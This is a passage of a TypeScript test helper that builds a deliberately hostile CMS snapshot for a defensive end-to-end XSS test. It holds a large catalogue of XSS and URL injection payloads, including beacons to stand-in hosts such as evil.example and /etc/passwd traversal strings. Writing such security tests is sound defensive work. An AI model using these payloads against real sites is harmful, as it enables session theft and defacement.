/**
 * A hostile snapshot (issue 8): the same shape as `tests/fixtures/snapshot.json` (what
 * `cms/lib/exportSnapshot.ts` writes), but EVERY string field of every collection and every
 * URL field holds an XSS or URL attack vector. `tests/e2e/hostile.e2e.spec.ts` loads every
 * page built from it in Chromium and checks that no script runs.
 *
 * - Every payload that would run calls a sink that names it: `top.__xss` gets the vector's
 *   id appended (`hx0042`), `alert(/hx0042/.source)` shows it, or the browser fetches
 *   `http://xss.invalid/xss-hit?hx0042` (`data:` documents cannot reach `top`).
 *   `vectors.json` beside the snapshot maps each id to its field and its vector.
 * - Structure stays valid where the site needs it to build: slugs, enums, numbers, dates
 *   (only their first ten characters are read, so the rest holds a vector).
 * - URL fields: each field takes the vectors its CURRENT schema accepts (checked against
 *   `site/loaders/schemas.ts` as it is when this runs), so most documents reach the pages.
 *   Extra documents hold, one each, the vectors the schema refuses (`refused-…` slugs): the
 *   site's loader must leave them out and report them (checked here, before the build),
 *   and the spec checks that they never became pages. `HOSTILE_REFUSED=omit` leaves them
 *   out of the snapshot, for building code from before the loader did that (when one bad
 *   document failed the whole build).
 *
 * `npx tsx tests/helpers/hostileSnapshot.ts` writes the snapshot and builds the site on
 * its own; `tests/helpers/buildTestSite.ts` does the same for `npm test`.
 */
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { PLATFORM_NAMESPACE, uuidFrom } from '@content/model/uuid';

const here = path.dirname(fileURLToPath(import.meta.url));
const e2eDir = path.resolve(here, '..', '..', '.e2e');

/** Where the snapshot (snapshot.json, media/, vectors.json) and the built site go. */
export const hostileSnapshotDir = path.join(e2eDir, 'hostile-snapshot');
export const hostileSiteDir = path.join(e2eDir, 'hostile-site');
/**
 * The address the hostile site is built with. Each Playwright worker serves it on a free port
 * of its own (tests/helpers/ports.ts); the pages' absolute links name this one, and no test follows them.
 */
const HOSTILE_BUILD_URL = 'http://127.0.0.1:4391';

export interface Placement {
  /** `hx0042`: what a sink reports. */
  id: string;
  /** The vector's name, e.g. `img-onerror-unquoted`. */
  vector: string;
  /** Where it was put: `offers "hostile-offer-2" body.root.children.3.children.1.fields.url`. */
  where: string;
  /** The value (cut to 300 characters). */
  value: string;
}

export interface HostileManifest {
  /** Vectors in the documents written to the snapshot. */
  placed: number;
  /** Vectors in documents the schema refuses (in the snapshot only when `refusedIncluded`). */
  inRefused: number;
  refusedIncluded: boolean;
  /** Documents built to fail their schema: they must never become pages. */
  refusedDocuments: { collection: string; slug: string; path: string; problems: string[] }[];
  placements: Placement[];
}

export function readHostileManifest(): HostileManifest {
  const file = path.join(hostileSnapshotDir, 'vectors.json');
  if (!existsSync(file)) {
    throw new Error(`No hostile snapshot at ${file}: run \`npm run test:e2e\` (it builds one first) or \`npx tsx tests/helpers/hostileSnapshot.ts\`.`);
  }
  return JSON.parse(readFileSync(file, 'utf8')) as HostileManifest;
}

// ---------------------------------------------------------------------------------------
// Sinks and vectors
// ---------------------------------------------------------------------------------------

/** JavaScript that records the id on the top window. No quotes, spaces or angle brackets. */
const sink = (id: string) => `void(top.__xss=(top.__xss||[]).concat(/${id}/.source))`;
/** For documents with an opaque origin (`data:`), which cannot reach `top`: a request. */
const beacon = (id: string) => `new Image().src='http://xss.invalid/xss-hit?${id}'`;
const alertSink = (id: string) => `alert(/${id}/.source)`;
const entities = (s: string) => [...s].map((c) => `&#${c.charCodeAt(0)};`).join('');
const b64 = (s: string) => Buffer.from(s).toString('base64');

type Template = { name: string; make: (id: string) => string };
const T = (name: string, make: (id: string) => string): Template => ({ name, make });

/** Vectors for text: HTML, attribute, script, style and template contexts. */
const TEXT: Template[] = [
  T('script-tag', (id) => `<script>${sink(id)}</script>`),
  T('script-upper', (id) => `<SCRIPT>${sink(id)}</SCRIPT>`),
  T('script-mixed-case', (id) => `<ScRiPt >${sink(id)}</ScRiPt >`),
  T('script-slash-attr', (id) => `<script/x>${sink(id)}</script>`),
  T('script-src-data', (id) => `<script src="data:text/javascript,${sink(id)}"></script>`),
  T('script-alert', (id) => `<script>${alertSink(id)}</script>`),
  T('img-onerror-unquoted', (id) => `<img src=x onerror=${sink(id)}>`),
  T('img-onerror-double', (id) => `<img src="x" onerror="${sink(id)}">`),
  T('img-onerror-single', (id) => `<img src='x' onerror='${sink(id)}'>`),
  T('img-onerror-backtick', (id) => `<img src=\`x\` onerror=\`${sink(id)}\`>`),
  T('img-onerror-entities', (id) => `<img src=x onerror="${entities(sink(id))}">`),
  T('img-slashes', (id) => `<img/src/onerror=${sink(id)}>`),
  T('img-alert', (id) => `<img src=x onerror=${alertSink(id)}>`),
  T('svg-onload', (id) => `<svg onload=${sink(id)}>`),
  T('svg-onload-slash', (id) => `<svg/onload=${sink(id)}//`),
  T('svg-script', (id) => `<svg><script>${sink(id)}</script></svg>`),
  T('svg-animate-onbegin', (id) => `<svg><animate onbegin=${sink(id)} attributeName=x dur=1s>`),
  T('svg-a-xlink-javascript', (id) => `<svg><a xlink:href="javascript:${sink(id)}"><text x=20 y=20>click</text></a></svg>`),
  T('svg-set-href', (id) => `<svg><a><set attributeName=href to=javascript:${sink(id)} /><text y=20>click</text></a></svg>`),
  T('mathml-mglyph-mxss', (id) => `<math><mtext><table><mglyph><style><img src=x onerror=${sink(id)}>`),
  T('mathml-href', (id) => `<math href="javascript:${sink(id)}">click</math>`),
  T('details-ontoggle', (id) => `<details open ontoggle=${sink(id)}>`),
  T('body-onload', (id) => `<body onload=${sink(id)}>`),
  T('body-onpageshow', (id) => `<body onpageshow=${sink(id)}>`),
  T('iframe-javascript', (id) => `<iframe src="javascript:${sink(id)}"></iframe>`),
  T('iframe-srcdoc', (id) => `<iframe srcdoc="<script>${sink(id)}</script>"></iframe>`),
  T('iframe-data', (id) => `<iframe src="data:text/html,<script>${beacon(id)}</script>"></iframe>`),
  T('object-javascript', (id) => `<object data="javascript:${sink(id)}"></object>`),
  T('object-data-html', (id) => `<object type="text/html" data="data:text/html,<script>${beacon(id)}</script>"></object>`),
  T('embed-javascript', (id) => `<embed src="javascript:${sink(id)}">`),
  T('a-javascript', (id) => `<a href="javascript:${sink(id)}">click me</a>`),
  T('a-entity-javascript', (id) => `<a href="&#106;avascript:${sink(id)}">click me</a>`),
  T('a-tab-entity-javascript', (id) => `<a href="java&#x09;script:${sink(id)}">click me</a>`),
  T('a-vbscript', (id) => `<a href="vbscript:msgbox(${id})">click me</a>`),
  T('form-action', (id) => `<form action="javascript:${sink(id)}"><button>go</button></form>`),
  T('button-formaction', (id) => `<form><button formaction="javascript:${sink(id)}">go</button></form>`),
  T('input-autofocus', (id) => `<input autofocus onfocus=${sink(id)}>`),
  T('select-autofocus', (id) => `<select autofocus onfocus=${sink(id)}></select>`),
  T('textarea-autofocus', (id) => `<textarea autofocus onfocus=${sink(id)}></textarea>`),
  T('div-onmouseover', (id) => `<div onmouseover="${sink(id)}">hover me</div>`),
  T('div-onpointerenter', (id) => `<div onpointerenter=${sink(id)} style="position:fixed;inset:0">x</div>`),
  T('custom-onpointerover', (id) => `<xss onpointerover=${sink(id)}>hover</xss>`),
  T('a-onfocus-tabindex', (id) => `<a onfocus=${sink(id)} tabindex=1 autofocus>x</a>`),
  T('onfocusin', (id) => `<a id=x tabindex=1 onfocusin=${sink(id)}>x</a>`),
  T('contenteditable-onblur', (id) => `<x contenteditable onblur=${sink(id)}>lose focus</x>`),
  T('video-source-onerror', (id) => `<video><source onerror="${sink(id)}"></video>`),
  T('audio-onerror', (id) => `<audio src=x onerror=${sink(id)}>`),
  T('picture-source', (id) => `<picture><source srcset=x><img src=x onerror=${sink(id)}></picture>`),
  T('img-srcset-javascript', (id) => `<img srcset="x 1w, javascript:${sink(id)} 2w" onerror=${sink(id)}>`),
  T('marquee-onstart', (id) => `<marquee onstart=${sink(id)}>x</marquee>`),
  T('onanimationstart', (id) => `<style>@keyframes hx{}</style><div style="animation-name:hx" onanimationstart=${sink(id)}></div>`),
  T('meta-refresh', (id) => `<meta http-equiv="refresh" content="0;url=javascript:${sink(id)}">`),
  T('base-href', (id) => `<base href="javascript:${sink(id)}//">`),
  T('link-stylesheet', (id) => `<link rel=stylesheet href="javascript:${sink(id)}">`),
  T('style-import', (id) => `<style>@import 'javascript:${sink(id)}';</style>`),
  T('style-attr-url', (id) => `<div style="background:url('javascript:${sink(id)}')">x</div>`),
  T('style-attr-expression', (id) => `<div style="width:expression(${sink(id)})">x</div>`),
  T('style-expression', (id) => `<style>*{x:expression(${sink(id)})}</style>`),
  T('style-breakout-request', (id) => `</style><style>body{background:url(//xss.invalid/xss-hit?${id})}</style>`),
  T('css-text', (id) => `color:red;background:url(javascript:${sink(id)});x:expression(${sink(id)})`),
  T('attr-break-double-script', (id) => `"><script>${sink(id)}</script>`),
  T('attr-break-single-script', (id) => `'><script>${sink(id)}</script>`),
  T('attr-break-double-img', (id) => `"><img src=x onerror=${sink(id)}>`),
  T('attr-inject-double', (id) => `" onmouseover="${sink(id)}" x="`),
  T('attr-inject-single', (id) => `' onmouseover='${sink(id)}' x='`),
  T('attr-inject-autofocus', (id) => `" autofocus onfocus="${sink(id)}" x="`),
  T('attr-inject-backtick', (id) => `\` onmouseover=${sink(id)} x=\``),
  T('attr-inject-unquoted', (id) => `x onmouseover=${sink(id)} y`),
  T('title-breakout', (id) => `</title><script>${sink(id)}</script>`),
  T('script-breakout', (id) => `</script><script>${sink(id)}</script>`),
  T('script-breakout-svg', (id) => `</script><svg onload=${sink(id)}>`),
  T('style-breakout', (id) => `</style><script>${sink(id)}</script>`),
  T('textarea-breakout', (id) => `</textarea><script>${sink(id)}</script>`),
  T('noscript-breakout', (id) => `</noscript><script>${sink(id)}</script>`),
  T('comment-breakout', (id) => `--><script>${sink(id)}</script>`),
  T('cdata-breakout', (id) => `]]><script>${sink(id)}</script>`),
  T('script-comment-escape', (id) => `<!--<script>${sink(id)}</script>-->`),
  T('comment-img', (id) => `<!--<img src="--><img src=x onerror=${sink(id)}//">`),
  T('nested-script', (id) => `<scr<script>ipt>${sink(id)}</scr</script>ipt>`),
  T('double-lt-script', (id) => `<<script>script>${sink(id)}<</script>/script>`),
  T('malformed-img-quotes', (id) => `<img """><script>${sink(id)}</script>">`),
  T('noscript-title-mxss', (id) => `<noscript><p title="</noscript><img src=x onerror=${sink(id)}>">`),
  T('template-script', (id) => `<template><script>${sink(id)}</script></template><img src=x onerror=${sink(id)}>`),
  T('json-string-breakout-double', (id) => `"};${sink(id)};//`),
  T('json-string-breakout-single', (id) => `'};${sink(id)};//`),
  T('json-escaped-quote', (id) => `\\";${sink(id)};//`),
  T('js-escapes', (id) => `\\x3cscript\\x3e${sink(id)}\\x3c/script\\x3e \\u003cscript\\u003e${sink(id)}\\u003c/script\\u003e`),
  T('template-constructor', (id) => `{{constructor.constructor('${sink(id)}')()}}`),
  T('template-dollar', (id) => `\${${sink(id)}}`),
  T('template-literal', (id) => `\`\${${sink(id)}}\``),
  T('template-hash', (id) => `#{${sink(id)}} <%= ${sink(id)} %> [[${sink(id)}]]`),
  T('replacement-patterns', (id) => `$& $' $\` $1 {council} {service} <img src=x onerror=${sink(id)}>`),
  T('markdown-link', (id) => `[click](javascript:${sink(id)}) ![x](javascript:${sink(id)})`),
  T('rtl-override', (id) => `\u202e<script>${sink(id)}</script>\u202c`),
  T('zero-width', (id) => `\u200b<script>${sink(id)}</script>\u200b\ufeff`),
  T('zero-width-in-tag', (id) => `<scr\u200bipt>${sink(id)}</scr\u200bipt>`),
  T('fullwidth-brackets', (id) => `\uff1cscript\uff1e${sink(id)}\uff1c/script\uff1e`),
  T('nul-prefix', (id) => `\u0000<script>${sink(id)}</script>`),
  T('control-chars', (id) => `\u0001\u0008\u000b\u000c\u001b<img src=x onerror=${sink(id)}>`),
  T('line-separators', (id) => `\u2028\u2029<svg onload=${sink(id)}>`),
  T('utf7', (id) => `+ADw-script+AD4-${sink(id)}+ADw-/script+AD4-`),
  T('percent-encoded', (id) => `%3Cscript%3E${sink(id)}%3C/script%3E`),
  T('entity-encoded', (id) => `&lt;script&gt;${sink(id)}&lt;/script&gt; &#60;img src=x onerror=${sink(id)}&#62;`),
  T('polyglot', (id) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */${sink(id)} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${sink(id)}//>\\x3e`),
];

/** For a text node's `style` attribute. */
const CSS_TEXT = TEXT.filter((t) => /^(css-text|style-)/.test(t.name));
/** Very long text: one per rich-text body (not in every field, or every page is metres long). */
const LONG_TEXT = [T('long-string', (id) => `${'A'.repeat(6000)} ${'word '.repeat(1200)}<script>${sink(id)}</script>`)];

/** Vectors for URL fields (href, src, srcset, JSON-LD `url`). */
const URLS: Template[] = [
  T('javascript-lower', (id) => `javascript:${sink(id)}`),
  T('javascript-upper', (id) => `JAVASCRIPT:${sink(id)}`),
  T('javascript-mixed', (id) => `JaVaScRiPt:${sink(id)}`),
  T('javascript-tab', (id) => `java\tscript:${sink(id)}`),
  T('javascript-newline', (id) => `java\nscript:${sink(id)}`),
  T('javascript-cr', (id) => `java\rscript:${sink(id)}`),
  T('javascript-leading-space', (id) => ` javascript:${sink(id)}`),
  T('javascript-leading-whitespace-mix', (id) => ` \t\n javascript:${sink(id)}`),
  T('javascript-leading-control', (id) => `\u0001javascript:${sink(id)}`),
  T('javascript-leading-nul', (id) => `\u0000javascript:${sink(id)}`),
  T('javascript-leading-so', (id) => `\u000e javascript:${sink(id)}`),
  T('javascript-line-separator', (id) => `\u2028javascript:${sink(id)}`),
  T('javascript-zero-width', (id) => `ja\u200bvascript:${sink(id)}`),
  T('javascript-entity-decimal', (id) => `&#106;avascript:${sink(id)}`),
  T('javascript-entity-hex', (id) => `&#x6A;avascript:${sink(id)}`),
  T('javascript-entity-tab', (id) => `jav&#x09;ascript:${sink(id)}`),
  T('javascript-entity-colon', (id) => `javascript&colon;${sink(id)}`),
  T('javascript-comment-newline', (id) => `javascript://%0a${sink(id)}`),
  T('javascript-comment-crlf', (id) => `javascript://comment%0d%0a${sink(id)}`),
  T('javascript-percent', (id) => `javascript:%76oid(top.__xss=(top.__xss||[]).concat(/${id}/.source))`),
  T('javascript-atob', (id) => `javascript:/*${id}*/eval(atob('${b64(sink(id))}'))`),
  T('javascript-alert', (id) => `javascript:${alertSink(id)}`),
  T('javascript-returns-html', (id) => `javascript:'<img src=x onerror=${sink(id)}>'`),
  T('javascript-polyglot', (id) => `javascript:/*--></title></style></textarea></script><svg/onload=${sink(id)}>*/${sink(id)}`),
  T('javascript-percent-scheme', (id) => `%6Aavascript:${sink(id)}`),
  T('data-html', (id) => `data:text/html,<script>${beacon(id)}</script>`),
  T('data-html-upper', (id) => `DATA:text/html,<script>${beacon(id)}</script>`),
  T('data-html-base64', (id) => `data:text/html;base64,${b64(`<script>${beacon(id)}</script>`)}`),
  T('data-svg', (id) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${beacon(id)}"/>`),
  T('data-plain', (id) => `data:,${sink(id)}`),
  T('vbscript', (id) => `vbscript:msgbox("${id}")`),
  T('vbscript-upper', (id) => `VBSCRIPT:MsgBox("${id}")`),
  T('protocol-relative', (id) => `//evil.example/xss-hit?${id}`),
  T('backslashes', (id) => `\\\\evil.example/xss-hit?${id}`),
  T('slash-backslash', (id) => `/\\evil.example/xss-hit?${id}`),
  T('https-no-slashes', (id) => `https:evil.example/xss-hit?${id}`),
  T('www-no-scheme', (id) => `www.evil.example/xss-hit?${id}`),
  T('file-scheme', (id) => `file:///etc/passwd?${id}`),
  T('unknown-scheme', (id) => `x-javascript:${sink(id)}`),
  T('mailto-javascript', (id) => `mailto:javascript:${sink(id)}`),
  T('https-attr-break-double', (id) => `https://evil.example/xss-hit?${id}"><script>${sink(id)}</script>`),
  T('https-attr-inject-double', (id) => `https://evil.example/" onmouseover="${sink(id)}" x="`),
  T('https-attr-inject-single', (id) => `https://evil.example/' onmouseover='${sink(id)}' x='`),
  T('https-query-img', (id) => `http://evil.example/?q=<img src=x onerror=${sink(id)}>`),
  T('https-fragment-script-breakout', (id) => `https://evil.example/#</script><script>${sink(id)}</script>`),
  T('https-userinfo', (id) => `https://javascript:${id}@evil.example/`),
  T('https-rtl', (id) => `https://evil.example/\u202e/xss-hit?${id}`),
  T('https-template', (id) => `https://evil.example/{{constructor.constructor('${sink(id)}')()}}/\${${sink(id)}}`),
  T('https-long', (id) => `https://evil.example/${'a'.repeat(3000)}?${id}`),
  T('https-srcset-inject', (id) => `https://evil.example/x.png 1w, javascript:${sink(id)} 2w`),
  T('relative-attr-break', (id) => `/"><script>${sink(id)}</script>`),
  T('relative-attr-inject', (id) => `/x"onmouseover="${sink(id)}`),
  T('fragment-attr-break', (id) => `#"><img src=x onerror=${sink(id)}>`),
  T('mailto-attr-break', (id) => `mailto:x@evil.example?body="><script>${sink(id)}</script>`),
  T('mailto-plain', (id) => `mailto:x@evil.example?subject=${id}`),
  T('tel-attr-break', (id) => `tel:+44"><script>${sink(id)}</script>`),
  T('tel-plain', (id) => `tel:+44${id.replace(/\D/g, '')}0000`),
];

/**
 * The order in which the web-address fields (each offer's source, the council's website)
 * take their vectors: a spread of spellings first, since there are only a dozen of them.
 */
const WEB_URLS: Template[] = [
  'javascript-lower', 'javascript-upper', 'javascript-tab', 'javascript-leading-space', 'javascript-leading-control',
  'javascript-comment-newline', 'data-html', 'vbscript', 'javascript-mixed', 'javascript-newline', 'data-svg',
  'javascript-percent', 'javascript-atob', 'javascript-leading-so',
].map((name) => URLS.find((u) => u.name === name)!);
WEB_URLS.push(...URLS.filter((u) => !WEB_URLS.includes(u)));

/** Vectors for media URLs (`<img src>`, `srcset`, `og:image`, JSON-LD `image`). */
const MEDIA_URLS: Template[] = [
  T('media-attr-break-double', (id) => `/media/x.png"onerror="${sink(id)}`),
  T('media-attr-break-single', (id) => `/media/x.png' onerror='${sink(id)}`),
  T('media-attr-break-script', (id) => `/media/"><script>${sink(id)}</script>`),
  T('media-query-svg', (id) => `/media/x.png?<svg onload=${sink(id)}>`),
  T('media-srcset-inject', (id) => `/media/x.png 1w, javascript:${sink(id)} 2w`),
  T('media-traversal', (id) => `/media/../../../etc/passwd?${id}`),
  T('media-javascript-name', (id) => `/media/javascript:${sink(id)}`),
  T('media-json-breakout', (id) => `/media/</script><script>${sink(id)}</script>`),
  T('media-plain', (id) => `/media/hostile-${id}.png`),
  ...URLS.filter((u) => /^(javascript-lower|data-svg|data-html|protocol-relative|https-attr-inject-double|vbscript)$/.test(u.name)).map(
    (u) => T(`media-${u.name}`, u.make),
  ),
];

/** Vectors for the council's email address (an `href="mailto:…"`). */
const EMAILS: Template[] = [
  T('email-quote-script', (id) => `"><script>${sink(id)}</script>"@evil.example`),
  T('email-single-quote', (id) => `x'onmouseover'${id}@evil.example`),
  T('email-plus-quote', (id) => `a+b'c${id}@evil.example`),
];

// ---------------------------------------------------------------------------------------
// Placing vectors
// ---------------------------------------------------------------------------------------

type Check = (value: string) => boolean;

class Placer {
  readonly placements: Placement[] = [];
  #next = 0;
  #cursor = new Map<Template[], number>();

  id(): string {
    this.#next += 1;
    return `hx${String(this.#next).padStart(4, '0')}`;
  }

  /** The next vector of `pool` (round robin) that `ok` accepts, recorded as placed at `where`. */
  take(pool: Template[], where: string, ok: Check = () => true): string {
    const start = this.#cursor.get(pool) ?? 0;
    for (let i = 0; i < pool.length; i += 1) {
      const template = pool[(start + i) % pool.length]!;
      const probe = template.make('hx9999');
      if (!ok(probe)) continue;
      this.#cursor.set(pool, (start + i + 1) % pool.length);
      const id = this.id();
      const value = template.make(id);
      this.placements.push({ id, vector: template.name, where, value: value.slice(0, 300) });
      return value;
    }
    throw new Error(`hostileSnapshot: no vector in the pool fits ${where}`);
  }

  /** A text vector of at most `max` characters. */
  text(where: string, max = Infinity): string {
    return this.take(TEXT, where, (v) => v.length <= max);
  }
}

/** Placements whose `where` starts with the document's label. */
function placementsOf(placer: Placer, label: string): Placement[] {
  return placer.placements.filter((p) => p.where.startsWith(`${label} `));
}

// ---------------------------------------------------------------------------------------
// The snapshot
// ---------------------------------------------------------------------------------------

type Json = Record<string, unknown>;
type Schemas = typeof import('@site/loaders/schemas');

const ok = (schema: { safeParse: (v: unknown) => { success: boolean } }) => (v: unknown) => schema.safeParse(v).success;

/** What the current schemas accept in each URL field. */
function urlChecks(s: Schemas) {
  const validMedia = { id: 1, url: '/media/hostile.png', alt: 'A picture', width: 10, height: 10, sizes: [] };
  const linkIn = (node: Json) => ({ root: { type: 'root', children: [{ type: 'paragraph', children: [node] }] } });
  return {
    web: (v: string) => ok(s.offerSchema.shape.sourceUrl)(v) && ok(s.authoritySchema.shape.website)(v),
    media: (v: string) => ok(s.mediaSchema)({ ...validMedia, url: v }) && ok(s.mediaSchema)({ ...validMedia, sizes: [{ url: v, width: 5 }] }),
    link: (v: string) =>
      ok(s.richText)(linkIn({ type: 'link', fields: { url: v, linkType: 'custom' }, children: [] })) &&
      ok(s.richText)(linkIn({ type: 'link', url: v, children: [] })) &&
      ok(s.richText)(linkIn({ type: 'autolink', fields: { url: v }, children: [] })),
    email: ok(s.authoritySchema.shape.email),
  };
}

interface Built {
  snapshot: Json;
  placements: Placement[];
  refused: { collection: string; slug: string; path: string; doc: Json; problems: string[] }[];
  refusedPlacements: Placement[];
  mediaFiles: string[];
}

async function generate(): Promise<Built> {
  const schemas = (await import('@site/loaders/schemas')) as Schemas;
  const { CARE_STATUSES, CIRCUMSTANCES } = await import('@site/loaders/vocabulary');
  const checks = urlChecks(schemas);
  const not = (check: Check): Check => (v) => !check(v);
  const p = new Placer();

  const text = (t: string, format = 0, extra: Json = {}) => ({ type: 'text', text: t, format, style: '', mode: 'normal', detail: 0, version: 1, ...extra });
  const paragraph = (children: unknown[], extra: Json = {}) => ({ type: 'paragraph', format: '', indent: 0, direction: 'ltr', textFormat: 0, version: 1, children, ...extra });
  /** A one-paragraph body, for the documents built to be refused. */
  const lightBody = (where: string) => ({ root: { type: 'root', children: [paragraph([text(p.text(`${where}.text`))])] } });

  /**
   * A Lexical body with vectors in text nodes (every format), link URLs and link text,
   * headings, lists, quotes, attributes the renderer must ignore, unknown node types,
   * inline nodes straight under the root, a very long text and a very deep tree.
   */
  const body = (where: string, linkCheck: Check, glossaryWords: string[]): Json => {
    const w = (sub: string) => `${where}.${sub}`;
    const url = (sub: string) => p.take(URLS, w(sub), linkCheck);
    const formats = [0, 1, 2, 4, 8, 16, 32, 64, 3, 17, 99];
    const children: unknown[] = [];
    children.push(
      paragraph(
        formats.map((format, i) => text(p.text(w(`paragraph.text${i}(format ${format})`)), format)),
        { format: p.text(w('paragraph.format')), direction: p.text(w('paragraph.direction')) },
      ),
    );
    children.push(paragraph([text(p.text(w('text.style')), 0, { style: p.take(CSS_TEXT, w('text.style attribute')) })]));
    if (glossaryWords.length) {
      // Glossary terms in running text, so the jargon buster links them (its own path).
      children.push(paragraph([text(`Words from the A to Z: ${glossaryWords.join(' and ')}, then ${glossaryWords.join(', ')}.`)]));
    }
    children.push(
      paragraph([
        text('Links: '),
        { type: 'link', fields: { url: url('link.fields.url'), linkType: 'custom', newTab: false }, children: [text(p.text(w('link.text')))] },
        text(' '),
        { type: 'link', fields: { url: url('link(newTab).fields.url'), linkType: 'custom', newTab: true, rel: p.text(w('link.fields.rel')) }, children: [text(p.text(w('link(newTab).text')), 1)] },
        text(' '),
        { type: 'link', url: url('link.url'), children: [text(p.text(w('link(plain lexical).text')))] },
        text(' '),
        { type: 'autolink', fields: { url: url('autolink.fields.url') }, children: [text(p.text(w('autolink.text')))] },
        text(' '),
        { type: 'link', fields: { url: url('link(2).fields.url'), linkType: 'custom', title: p.text(w('link.fields.title')) }, children: [text(p.text(w('link(2).text')), 16)] },
        text(' '),
        { type: 'link', fields: { url: url('link(3).fields.url'), linkType: 'custom' }, children: [text(p.text(w('link(3).text')), 2)] },
        text(' '),
        {
          type: 'link',
          fields: { linkType: 'internal', doc: { relationTo: 'offers', value: { slug: p.text(w('internal link doc.value.slug')) } } },
          children: [text(p.text(w('internal link(bad slug).text')))],
        },
        text(' '),
        {
          type: 'link',
          fields: { linkType: 'internal', doc: { relationTo: p.text(w('internal link doc.relationTo')), value: 'hostile-offer-1' } },
          children: [text(p.text(w('internal link(bad collection).text')))],
        },
        text(' '),
        { type: 'link', fields: { linkType: 'internal', doc: { relationTo: 'offers', value: 'hostile-offer-1' } }, children: [text(p.text(w('internal link(good).text')))] },
      ]),
    );
    children.push({ type: 'heading', tag: 'h2', children: [text(p.text(w('heading(h2).text')))] });
    children.push({ type: 'heading', tag: p.text(w('heading.tag')), children: [text(p.text(w('heading(bad tag).text')))] });
    children.push({ type: 'heading', tag: 'h4', children: [{ type: 'link', fields: { url: url('heading.link.url') }, children: [text(p.text(w('heading.link.text')))] }] });
    children.push({
      type: 'list',
      listType: 'bullet',
      tag: 'ul',
      children: [
        { type: 'listitem', value: 1, children: [text(p.text(w('list.item1')))] },
        { type: 'listitem', value: p.text(w('list.item2.value')), children: [text(p.text(w('list.item2')), 1)] },
        { type: 'listitem', children: [{ type: 'list', listType: 'number', tag: 'ol', children: [{ type: 'listitem', children: [text(p.text(w('nested list item')))] }] }] },
      ],
    });
    children.push({
      type: 'list',
      listType: 'number',
      tag: p.text(w('list.tag')),
      start: p.text(w('list.start')),
      children: [{ type: 'listitem', children: [text(p.text(w('numbered list item')))] }],
    });
    children.push({ type: 'quote', children: [text(p.text(w('quote.text')), 2)] });
    children.push({ type: p.text(w('unknown node.type'), 100), [p.text(w('unknown node.attribute name'), 100)]: 1, children: [text(p.text(w('unknown node.text')))] });
    children.push({ type: 'upload', relationTo: 'media', value: { url: url('upload.value.url'), alt: p.text(w('upload.value.alt')), filename: p.text(w('upload.value.filename')) } });
    children.push({ type: 'block', fields: { blockType: 'html', html: p.text(w('block.fields.html')) } });
    children.push({ type: 'html', html: p.text(w('html node.html')), children: [text(p.text(w('html node.text')))] });
    children.push({ type: 'relationship', relationTo: 'offers', value: { slug: p.text(w('relationship.value.slug')) } });
    children.push({ type: 'horizontalrule', onclick: p.text(w('horizontalrule.onclick')) });
    children.push(text(p.text(w('root-level text')), 1));
    children.push({ type: 'link', fields: { url: url('root-level link.url') }, children: [text(p.text(w('root-level link.text')))] });
    children.push(paragraph([text(p.text(w('line 1'))), { type: 'linebreak' }, { type: 'tab' }, text(p.text(w('line 2')))]));
    children.push(paragraph([text(p.take(LONG_TEXT, w('long text')))]));
    let deep: Json = text(p.text(w('deep text (45 levels)')));
    for (let i = 0; i < 45; i += 1) deep = i % 2 ? paragraph([deep]) : { type: 'quote', children: [deep] };
    children.push(deep);
    return {
      root: {
        type: 'root',
        format: p.text(w('root.format')),
        indent: 0,
        direction: p.text(w('root.direction')),
        version: 1,
        children,
      },
    };
  };

  // Sizes and media files -------------------------------------------------------------
  const mediaFiles = new Set<string>(['hostile.png']);
  const noteMedia = (value: string) => {
    const name = value.startsWith('/media/') ? value.slice('/media/'.length) : '';
    if (/^[\w.-]+$/.test(name)) mediaFiles.add(name);
    return value;
  };

  // The authority (one object: it must pass, or nothing builds) ------------------------
  const A = 'authority';
  const authority = {
    name: p.text(`${A} name`),
    uuid: uuidFrom(PLATFORM_NAMESPACE, 'hostile authority'),
    // No vector: the content model's one ONS_CODE pattern (E and 8 digits, or DEMO and word
    // characters) is checked whole, so the council's details would not build at all.
    onsCode: 'DEMO0001',
    isDemo: true,
    serviceName: p.text(`${A} serviceName`),
    phone: `020 7946 0000 ${p.text(`${A} phone (after the number)`)}`,
    email: p.take(EMAILS, `${A} email`, checks.email),
    address: p.text(`${A} address`),
    openingHours: p.text(`${A} openingHours`),
    emergency: {
      phone: `${p.text(`${A} emergency.phone (before the number)`)} 020 7946 0999`,
      label: p.text(`${A} emergency.label`),
      hours: p.text(`${A} emergency.hours`),
    },
    website: p.take(WEB_URLS, `${A} website`, checks.web),
    siteUrl: p.take(WEB_URLS, `${A} siteUrl`, checks.web),
    // Every "If you are told no" and the complaints chapter show it (issue 20).
    complaints: {
      phone: `020 7946 0150 ${p.text(`${A} complaints.phone (after the number)`)}`,
      email: p.take(EMAILS, `${A} complaints.email`, checks.email),
      formUrl: p.take(WEB_URLS, `${A} complaints.formUrl`, checks.web),
    },
  };

  // Areas ---------------------------------------------------------------------------------
  const areaSlugs = ['hostile-area-1', 'hostile-area-2', 'hostile-area-3'];
  const areas = areaSlugs.map((slug, i) => ({
    slug,
    uuid: uuidFrom(PLATFORM_NAMESPACE, `hostile areas ${slug}`),
    title: p.text(`areas "${slug}" title`),
    summary: p.text(`areas "${slug}" summary`, 200),
    statutory: i % 2 === 0,
    order: i + 1,
  }));

  // Glossary (before the bodies, so they can use its terms) ------------------------------
  const glossary = Array.from({ length: 6 }, (_, i) => {
    const slug = `hostile-term-${i + 1}`;
    const L = `glossary "${slug}"`;
    // A term starts with a word, so the jargon buster can find it in running text.
    return {
      slug,
      term: `Hterm${i + 1} ${p.text(`${L} term (after Hterm${i + 1})`)}`,
      meaning: p.text(`${L} meaning`),
      aliases: [p.text(`${L} aliases.0`), `Halias${i + 1} ${p.text(`${L} aliases.1 (after Halias${i + 1})`)}`],
    };
  });
  const termWords = (i: number) => [glossary[i % 6]!.term, glossary[(i + 1) % 6]!.aliases[1]!, glossary[(i + 2) % 6]!.aliases[0]!];

  // Offers --------------------------------------------------------------------------------
  // Six offers with full bodies, six more with short ones (for more web-address vectors).
  const offerSlugs = ['hostile-offer-1', 'hostile-offer-2', 'hostile-offer-3', 'hostile-offer-4', 'hostile-offer-5', 'emergency-help'];
